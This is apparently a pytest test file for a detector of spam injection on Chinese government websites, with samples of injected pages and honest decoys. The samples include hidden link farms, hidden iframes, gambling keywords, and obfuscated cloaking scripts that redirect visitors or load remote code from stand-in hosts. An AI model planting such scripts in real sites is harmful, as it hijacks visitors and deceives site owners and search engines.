"""Signs of tampering in the forms that injected pages have; decoys that honest pages have."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govcrawl.extract.bad_words import bad_words
from govcrawl.extract.foreign_hosts import Strangers
from govcrawl.extract.page import RawPage, open_page
from govcrawl.extract.tamper_scripts import read_script
from govcrawl.extract.tampering import describe, is_strong, read_tampering
from govcrawl.model.items import TamperingSeen

HOSTS = ("www.example.gov.cn",)
NAV = "<div class=nav><a href='/xwdt/'>新闻动态</a><a href='/tzgg/'>通知公告</a></div><p>某某县人民政府欢迎您，政务公开。</p>"
FARM = "".join(f'<a href="https://www.farm{n}.com/">网站{n}</a>' for n in range(4))
GAMBLING = '<a href="http://www.a1.cc/">重庆时时彩</a><a href="http://www.b2.vip/">百家乐</a>'


def signs(body: str, head: str = "<title>某某县人民政府</title>") -> tuple[TamperingSeen, ...]:
    source = f"<html><head><meta charset=utf-8>{head}</head><body>{NAV}{body}</body></html>"
    return read_tampering(open_page(RawPage("http://www.example.gov.cn/", source.encode())), "某某县人民政府", HOSTS)


def strong(body: str, head: str = "<title>某某县人民政府</title>") -> set[str]:
    return {sign.kind for sign in signs(body, head) if is_strong(sign.kind)}


INJECTED = [
    (f"<div style='display:none;'>{FARM}</div>", "hidden_links"),
    (f"<div style='display : NONE'>{FARM}</div>", "hidden_links"),
    (f"<div hidden>{FARM}</div>", "hidden_links"),
    (f"<div style='visibility:hidden'>{FARM}</div>", "hidden_links"),
    (f"<div style='position:absolute;left:-9999px;top:-9999px'>{FARM}</div>", "hidden_links"),
    (f"<div style='text-indent:-9999px'>{FARM}</div>", "hidden_links"),
    (f"<div style='height:1px;overflow:hidden'>{FARM}</div>", "hidden_links"),
    (f"<span style='font-size:0'>{FARM}</span>", "hidden_links"),
    (f"<marquee width='1' height='1'>{FARM}</marquee>", "hidden_links"),
    (f"<style>#zx9{{display:none}}</style><div id=zx9>{FARM}</div>", "hidden_links"),
    (
        f"<div id=aa1>{FARM}</div><script>document.getElementById('aa1').style.display='none'</script>",
        "hidden_links",
    ),
    (
        f"<script>document.write('<div style=\"display:none\">')</script>{FARM}<script>document.write('</div>')</script>",
        "hidden_links",
    ),
    (
        f"<script>document.write('<div style=\"display:none\">{FARM.replace(chr(39), '')}</div>')</script>",
        "hidden_links",
    ),
    (f"<ul class='menu' style='display:none'>{GAMBLING}</ul>", "hidden_words"),
    (f"<p>友情链接</p>{GAMBLING}", "bad_links"),
    ("<iframe src='http://bad.example-x.top/m.htm' width=0 height=0></iframe>", "hidden_frame"),
    ("<iframe src='//bad.example-x.top/m.htm' style='display:none'></iframe>", "hidden_frame"),
    ("<p>联系单位：www.828365.com办公室</p>", "domain_in_name"),
    (
        "<script>var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='http://www.jump888.com/';}</script>",
        "cloaking_script",
    ),
    (
        "<script>if(/baiduspider|sogou/i.test(navigator.userAgent)){document.write('<script src=\"//js.jump888.com/a.js\"><\\/script>')}</script>",
        "cloaking_script",
    ),
    (
        "<script>document.title='无法找到该网页';document.write('<h1>HTTP 错误 404</h1>')</script>",
        "fake_404_script",
    ),
    (
        "<script>eval(String.fromCharCode("
        + ",".join(str(ord(c)) for c in "if(document.referrer.match(/baidu/))location='http://x8.vip/'")
        + "))</script>",
        "cloaking_script",
    ),
    (
        "<script>eval(atob('"
        + base64.b64encode(b"if(document.referrer.match(/baidu/)){location='http://x8.vip/'}").decode()
        + "'))</script>",
        "cloaking_script",
    ),
]


@pytest.mark.parametrize(
    ("body", "kind"),
    INJECTED,
)
def test_injected_content_is_found(body: str, kind: str) -> None:
    assert kind in strong(body)


def entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


FOREIGN_TITLES = [
    "<title>澳门百家乐官网_真人娱乐</title>",
    f"<title>{entities('北京赛车pk10投注平台')}</title>",
    f"<title>某某县人民政府</title><meta name='keywords' content='{entities('时时彩,六合彩')}'>",
    "<title>某某县人民政府</title><meta name=description content='代开发票，办证刻章'>",
    "<title>时 时 彩 平 台</title>",
]


@pytest.mark.parametrize("head", FOREIGN_TITLES)
def test_foreign_titles_are_found(head: str) -> None:
    assert "foreign_title" in strong("", head)


def test_an_encoded_title_alone_is_a_hint() -> None:
    (sign,) = signs("", f"<title>{entities('某某县人民政府')}</title>")
    assert (sign.kind, is_strong(sign.kind)) == ("encoded_title", False)
    assert describe(sign).endswith("某某县人民政府")


MEDIA = "".join(
    f"<a href='http://www.{host}/'>链接</a>" for host in ("people.com.cn", "xinhuanet.com", "cctv.com", "gmw.cn")
)
SHOPS = "".join(f"<a href='http://www.shop{n}.com/'>企业{n}</a>" for n in range(6))
GOV = "".join(f"<a href='http://www.x{n}.gov.cn/'>某局{n}</a>" for n in range(6))


HONEST = [
    f"<div style='display:none'>{GOV}</div>",
    f"<div style='display:none'>{MEDIA}</div>",
    f"<div class=tab style='display:none'>{MEDIA}</div>",
    f"<ul class=submenu style='display:none'>{SHOPS}</ul>",
    f"<div class=link><span>企业网站</span><ul style='display:none'>{SHOPS}</ul></div>",
    f"<div class=pane>一</div><div class=pane style='display:none'>{SHOPS}</div>",
    f"<div id=qy style='display:none'>{SHOPS}</div><script>$('#qy').show()</script>",
    "<a href='#content' style='position:absolute;left:-9999px'>跳到正文</a>",
    "<div style='display:none'><a href='http://www.one.com/'>一</a><a href='http://www.two.com/'>二</a></div>",
    "<iframe src='/module/visitcount/visit.jsp' style='display:none'></iframe>",
    "<iframe src='https://i.tianqi.com/?c=code' width=0 height=0></iframe>",
    "<iframe src='http://map.partner.com/' width=600 height=400></iframe>",
    "<h1>公安机关打击网络赌博、色情犯罪</h1><a href='http://www.partner.com/1'>严禁参与六合彩赌博活动</a>",
    "<p>请登录 www.jzpartner.com 查询，办公室电话 123。</p>",
    "<p><a href='http://www.partner.com'>www.partner.com</a>办公室</p>",
    "<p>主办：www.example.gov.cn办公室</p>",
    "<script>if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}</script>",
    "<script>var r=document.referrer;if(/baidu/.test(r)){document.write('<script src=\"//hm.baidu.com/h.js\"><\\/script>')}</script>",
    "<script>document.write(unescape(\"%3Cscript src='http://dcs.conac.cn/js/14/000/0000/1/CA1.js'%3E%3C/script%3E\"))</script>",
    "<script>axios.get('/x').catch(function(){alert('无法找到该网页')})</script>",
    "<!-- <div style='display:none'>" + FARM + "</div> -->",
    "<script src='http://js.partner.com/x.js'></script>",
]


@pytest.mark.parametrize(
    "body",
    HONEST,
)
def test_honest_content_is_not_accused(body: str) -> None:
    assert strong(body) == set()


@pytest.mark.parametrize(
    "title",
    [
        "打击网络赌博专项行动公告",
        "中国福利彩票开奖公告",
        "关于查处代开发票违法行为的通报",
        "市体育彩票中心",
        "全县严打六合彩",
        "警惕刷单兼职骗局",
    ],
)
def test_titles_that_fight_or_mean_well(title: str) -> None:
    assert strong("", f"<title>{title}</title>") == set()


def test_a_foreign_script_is_named_only_beside_a_strong_sign() -> None:
    script = "<script src='http://hn.partner-x.net/kb.js'></script>"
    assert signs(script) == ()
    kinds = [sign.kind for sign in signs(script + f"<div style='display:none'>{FARM}</div>")]
    assert kinds == ["hidden_links", "foreign_script"]


@pytest.mark.parametrize(("count", "found"), [(2, False), (3, True)])
def test_three_strangers_make_a_farm(count: int, found: bool) -> None:
    links = "".join(f"<a href='http://www.s{n}.com/'>站</a>" for n in range(count))
    assert ("hidden_links" in strong(f"<div style='display:none'>{links}</div>")) is found


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("时时彩平台", ("时时彩",)),
        ("彩票", ()),
        ("彩票投注", ("彩票", "投注")),
        ("打击时时彩。真人娱乐网", ("真人娱乐",)),
        ("福利彩票投注站", ()),
    ],
)
def test_bad_words(text: str, words: tuple[str, ...]) -> None:
    assert bad_words(text) == words


def test_a_fetched_script_that_fakes_a_404() -> None:
    script = "var v='<div>无法找到该网页</div>';document.title='无法找到该网页';document.write(v);"
    assert [sign.kind for sign in read_script(script, Strangers(HOSTS))] == ["fake_404_script"]


@given(
    st.text(max_size=600),
    st.sampled_from(["{}", "<div style='{}'>x</div>", "<script>{}</script>", "<a href='{}'>百家乐</a>", "<title>{}"]),
)
def test_never_raises(text: str, shape: str) -> None:
    signs(shape.replace("{}", text))
